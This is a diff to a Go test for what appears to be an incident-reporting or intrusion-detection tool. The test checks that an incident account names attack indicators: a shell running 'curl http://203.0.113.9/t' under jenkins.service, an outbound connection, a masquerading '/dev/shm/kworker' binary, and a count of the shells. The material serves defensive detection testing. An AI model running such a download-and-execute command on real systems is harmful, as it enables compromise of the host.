@@ -149,10 +149,13 @@ func TestTheReportIsOneIncident(t *testing.T) {
 			t.Errorf("entities lack %s", want)
 		}
 	}
-	for _, want := range []string{"jenkins.service", "curl http://203.0.113.9/t", "203.0.113.77:443", "/dev/shm/kworker"} {
+	for _, want := range []string{"jenkins.service", "/bin/sh -c curl http://203.0.113.9/t", "203.0.113.77:443", "/dev/shm/kworker"} {
 		if !strings.Contains(open[0].Account, want) || !strings.Contains(open[0].AccountZH, want) {
 			t.Errorf("account lacks %q: %s / %s", want, open[0].Account, open[0].AccountZH)
 		}
+	}
+	if !strings.Contains(open[0].Account, "It did so 2 times.") {
+		t.Errorf("account miscounts the shells: %s", open[0].Account)
 	}
 	checkForest(t, open[0])
 }
